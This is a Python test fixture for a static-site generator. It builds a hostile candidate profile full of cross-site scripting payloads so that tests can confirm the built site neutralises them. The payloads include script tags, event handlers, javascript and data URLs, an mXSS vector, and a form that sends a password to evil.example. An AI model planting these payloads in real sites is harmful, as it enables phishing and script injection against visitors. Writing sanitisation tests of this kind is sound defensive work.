"""A candidate who means harm: every payload of issue #15 in entries, bio, name, titles,
justifications and evidence files of each active type.

Each payload that could run calls `alert(...)` (a dialog a browser test can catch) or sets
`window.pwned`; none may ever run on the built site.
"""

from __future__ import annotations

from pathlib import Path

from sitefixtures import PNG, entry, write

SLUG = "mallory"

BODY = """\
Intro **bold** text, a [friendly link](https://example.org/page) and a table:

| a | b |
|:--|--:|
| 1 | 2 |

<script>alert('body-script')</script>
<img src="x" onerror="alert('img-onerror')">
<img src="x" onerror=alert('img-onerror-2')//
[a javascript link](javascript:alert('md-js-link'))
<a href="javascript:alert('raw-js-link')">raw javascript link</a>
<a href="JaVaScRiPt:alert('mixed-case')">mixed case</a>
<a href="data:text/html,&lt;script&gt;alert('data-link')&lt;/script&gt;">data link</a>
![image](javascript:alert('md-js-img'))
<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe>
<iframe src="javascript:alert('iframe-src')"></iframe>
<object data="javascript:alert('object')"></object>
<embed src="javascript:alert('embed')">
<svg onload="alert('svg-onload')"><circle r="4"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">OVERLAY</div>
<style>body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<div id="__config">{"search": "evidence/evil.js.txt"}</div>
<details open ontoggle="alert('ontoggle')"><summary>open</summary>details</details>
<p onclick="alert('onclick')" onmouseover="alert('onmouseover')">hover me</p>

Hover paragraph
{: onmouseover="alert('attr-list')" style="position:fixed" }

<!-- pf-candidate 0123456789abcdef01234567 -->

## Heading <img src=x onerror="alert('toc-heading')">

<a href="https://evil.example/" target="_blank">external</a>

<div>unclosed block at the end
"""

BIO = "Bio <script>alert('bio-script')</script> <img src=x onerror=\"alert('bio-onerror')\">"

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-evidence-onload')">
<script>alert('svg-evidence-script')</script><circle r="5"/></svg>
"""
HTML = b"<!doctype html><title>x</title><script>alert('html-evidence')</script><p>hello</p>\n"
XHTML = b"""<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert('xml-evidence')</script></body></html>
"""
JS = b"alert('js-evidence'); window.pwned = true;\n"
ACTIVE_EVIDENCE = {"evil.svg": SVG, "evil.html": HTML, "evil.xhtml": XHTML, "evil.xml": XHTML, "evil.js": JS}


def add_hostile_candidate(root: Path) -> Path:
    """Add the hostile candidate to a workspace made by `sitefixtures.make_workspace`."""
    folder = root / "candidates" / SLUG
    write(folder / "candidate.yml", f"""\
        name: "Mallory <img src=x onerror=alert('name')>"
        role: stagiaire
        institution: "<script>alert('institution')</script>"
        language: fr
        frameworks:
          - id: mini
        bio: |
          {BIO}
        """)
    for name, content in ACTIVE_EVIDENCE.items():
        write(folder / "evidence" / name, content)
    write(folder / "evidence" / "photo.png", PNG)
    evidence = ", ".join(f"{{path: evidence/{name}, title: '{name}'}}" for name in [*ACTIVE_EVIDENCE, "photo.png"])
    claims = """[{item: 'mini:M1', justification: "<script>alert('justification')</script>"}]"""
    write(folder / "entries" / "attack.md", entry(
        '"<img src=x onerror=alert(\'entry-title\')>"', BODY, claims=claims,
        evidence=f"[{evidence}, {{url: 'https://example.org/a?b=<script>', title: \"<script>alert('evidence-title')</script>\"}}]"))
    return folder
